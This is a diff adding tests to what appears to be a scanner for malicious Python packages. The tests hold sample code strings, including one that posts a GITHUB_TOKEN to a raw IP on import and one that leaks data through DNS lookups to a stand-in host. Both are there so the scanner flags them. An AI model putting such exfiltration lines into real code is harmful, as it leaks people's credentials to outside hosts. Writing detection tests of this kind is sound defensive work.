@@ -576,3 +576,25 @@ def test_dns_label_fstring_with_inner_constants() -> None:
         "socket.gethostbyname(f\"{d.decode().rstrip('=')}.x.collector.invalid\")\n"
     )
     assert "code/dns-exfiltration" in scan(source)
+
+
+# ------------------------------------------------- one environment value, by destination
+def test_a_ci_token_sent_to_a_raw_ip_on_import_is_critical() -> None:
+    source = (
+        "import os, requests\n"
+        "requests.post('https://198.51.100.44/t', data={'t': os.getenv('GITHUB_TOKEN')})\n"
+    )
+    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/host-info-exfiltration"] is (
+        Severity.CRITICAL
+    )
+
+
+def test_an_api_key_sent_to_the_vendors_own_api_is_not_exfiltration() -> None:
+    source = (
+        "import os, requests\n"
+        "requests.get('https://api.vendor.example/v1/ping',\n"
+        "             headers={'Authorization': os.environ['VENDOR_API_KEY']})\n"
+    )
+    found = scan(source, E.IMPORT, "pkg/__init__.py")
+    assert found.get("code/host-info-exfiltration", Severity.INFO) <= Severity.LOW
+    assert "code/exfiltration" not in found
